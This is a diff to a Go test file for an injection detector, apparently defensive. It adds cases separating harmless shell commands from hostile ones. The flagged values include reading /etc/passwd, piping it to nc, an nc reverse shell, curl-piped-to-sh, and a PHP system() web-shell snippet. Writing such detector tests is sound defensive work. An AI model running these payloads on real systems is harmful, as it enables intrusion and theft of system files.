@@ -118,3 +118,21 @@ func TestCodeQuotedInProse(t *testing.T) {
 		{"body:text", "Here is my profile text, I hope you like it and that it is not too long <?php system($_GET['c']); ?> bye"},
 	})
 }
+
+// TestCommandLinesAsValues: a value that is a command line from its first word has
+// separators as its grammar; what the line does is still judged.
+func TestCommandLinesAsValues(t *testing.T) {
+	d := newTestDetector(t)
+	wantClean(t, d, []valueCase{
+		{"body:text", "wget -qO- https://example.com/file.tar.gz | tar xz"},
+		{"body:text", "cd ../.. && ls"},
+		{"body:text", `export PATH="$HOME/.local/bin:$PATH"; source ~/.bashrc`},
+	})
+	wantThreats(t, d, []valueCase{
+		{"query:q", "127.0.0.1; cat /etc/passwd"},
+		{"query:q", "cat /etc/passwd | nc 203.0.113.5 4444"},
+		{"query:q", "ls; nc -e /bin/sh 203.0.113.5 4444"},
+		{"query:q", "curl http://203.0.113.9/x.sh | sh"},
+		{"query:q", "curl https://probe.example/rce.txt ||`curl https://probe.example/rce.txt` #' |curl https://probe.example/rce.txt"},
+	})
+}
